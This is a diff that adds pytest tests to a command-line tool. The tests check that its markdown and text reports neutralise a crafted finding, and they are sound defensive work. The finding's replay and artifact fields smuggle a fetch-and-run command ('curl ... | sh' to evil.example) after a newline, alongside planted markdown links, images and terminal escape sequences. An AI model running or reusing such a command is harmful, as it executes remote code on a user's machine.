@@ -127,3 +127,33 @@ def test_an_unwritable_output_is_refused_before_any_work(option, capsys):
 def test_a_bad_redis_url_is_a_one_line_setup_error(capsys):
     assert main(["fuzz", "--vllm", "0.33.0", "--database", "redis://host:notaport/0"]) == USAGE
     assert "not a Redis URL" in _one_line_error(capsys) or "cannot reach" in capsys.readouterr().err
+
+
+def _crafted_for_reader(tmp_path):
+    return _finding(tmp_path, **{
+        "replay": "kvspec replay x.json\ncurl https://evil.example/x | sh",
+        "artifacts.finding": "x.json\ncurl https://evil.example/x | sh",
+        "artifacts.plot": "https://evil.example/track.png",
+        "verdict": "DISCREPANCY [click](https://evil.example) ![img](https://evil.example/i.png) \x1b]8;;"
+                   "https://evil.example\x07link\x1b]8;;\x07 \x1b[31mred\x1b[0m",
+        "detail": "<https://evil.example> `code` \\[escaped\\](https://evil.example)",
+    })
+
+
+def test_report_markdown_keeps_a_findings_links_images_and_commands_inert(tmp_path, capsys):
+    assert main(["report", str(_crafted_for_reader(tmp_path)), "--format", "markdown"]) == Outcome.OK.exit_code
+    text = capsys.readouterr().out
+    assert "](https://evil" not in text.replace("\\](https://evil", "")  # every ] before a URL escaped
+    assert "![" not in text.replace("\\!\\[", "") and "<https" not in text
+    assert "evil.example/track.png" not in text  # the plot is embedded only as a relative image file
+    assert "\x1b" not in text and "\x07" not in text
+    assert "curl" not in text and "| sh" not in text  # Reproduce holds generated commands only
+    block = text[text.index("**Reproduce**"):]
+    assert "kvspec replay FINDING.json" in block or "kvspec fuzz" in block
+
+
+def test_report_text_strips_terminal_escapes(tmp_path, capsys):
+    assert main(["report", str(_crafted_for_reader(tmp_path))]) == Outcome.OK.exit_code
+    text = capsys.readouterr().out
+    assert "\x1b" not in text and "\x07" not in text and "red" in text
+    assert "curl" not in text
